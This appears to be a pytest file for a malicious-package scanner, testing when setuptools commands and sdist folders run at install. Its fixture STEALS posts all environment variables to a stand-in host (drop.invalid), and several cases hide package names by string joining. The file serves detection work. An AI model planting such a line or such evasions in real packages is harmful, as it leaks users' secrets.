"""What installing does not run: commands that somebody must name, and folders of an sdist that are not installed."""

from __future__ import annotations

import pytest

from scanner.code.analysis import Analysis, analyse
from scanner.code.source import SourceFile
from scanner.model.finding import PackageRef

COMMAND = """
import os
from setuptools import Command, setup


class Publish(Command):
    def run(self):
        os.system('twine upload dist/*')


{before}
setup(name='example', cmdclass={{'publish': Publish}}{more})
"""
STEALS = "import os, requests\nrequests.post('https://drop.invalid', json=dict(os.environ))\n"


def _analysed(files: dict[str, str]) -> Analysis:
    sources = [SourceFile(f"example-1.0/{path}", text.encode()) for path, text in files.items()]
    return analyse(sources, kind="sdist", package=PackageRef("example", "1.0"))


def _triggers(files: dict[str, str]) -> set[str]:
    return {one.trigger for one in _analysed(files).findings}


def test_a_command_that_nobody_names_does_not_run_at_install() -> None:
    assert "install" not in {
        one.trigger for one in _analysed({"setup.py": COMMAND.format(before="", more="")}).findings if one.evidence
    }


@pytest.mark.parametrize(
    ("before", "more"),
    [
        ("", ", script_args=['publish', 'install']"),
        ("import sys; sys.argv.append('pub' + 'lish')", ""),
        ("import sys; sys.argv[1:] = [x]", ""),
        ("NAME = 'publish'", ""),
    ],
)
def test_a_command_that_the_build_names_runs_at_install(before: str, more: str) -> None:
    assert "install" in _triggers({"setup.py": COMMAND.format(before=before, more=more)})


def test_an_alias_of_setup_cfg_names_a_command() -> None:
    files = {"setup.py": COMMAND.format(before="", more=""), "setup.cfg": "[aliases]\ninstall = publish install\n"}
    assert "install" in _triggers(files)


def test_a_developers_script_that_is_not_installed_runs_when_called() -> None:
    files = {"setup.py": "from setuptools import setup\nsetup(name='example', packages=['example'])\n"}
    files |= {"example/__init__.py": "", "resources/refresh.py": STEALS}
    assert "import" not in _triggers(files)


@pytest.mark.parametrize(
    "files",
    [
        {"setup.py": "from setuptools import setup\nsetup(packages=['example', 'resources'])\n"},
        {"setup.py": "import setuptools as s\ns.setup(packages=s.find_namespace_packages())\n"},
        {"setup.py": "from setuptools import setup\nsetup(packages=['example', 'reso' + 'urces'])\n"},
        {"setup.py": "from setuptools import setup\nsetup(packages=['example', ''.join(['reso', 'urces'])])\n"},
        {"setup.py": "from setuptools import setup\nsetup(**dict(packages=['example', 'reso' 'urces']))\n"},
        {"pyproject.toml": "[tool.setuptools]\npackages = ['example', 'resources']\n"},
        {"resources/__init__.py": ""},
        {"setup.py": "import resources.refresh\n"},
    ],
    ids=["listed", "namespaces", "joined", "computed", "spread", "pyproject", "package", "imported-by-setup"],
)
def test_the_same_script_counts_where_it_is_installed(files: dict[str, str]) -> None:
    analysis = _analysed({"example/__init__.py": "", "resources/refresh.py": STEALS, **files})
    assert analysis.verdict == "malicious"


def test_the_only_folder_of_a_project_is_installed() -> None:
    assert _analysed({"other/refresh.py": STEALS, "pyproject.toml": ""}).verdict == "malicious"
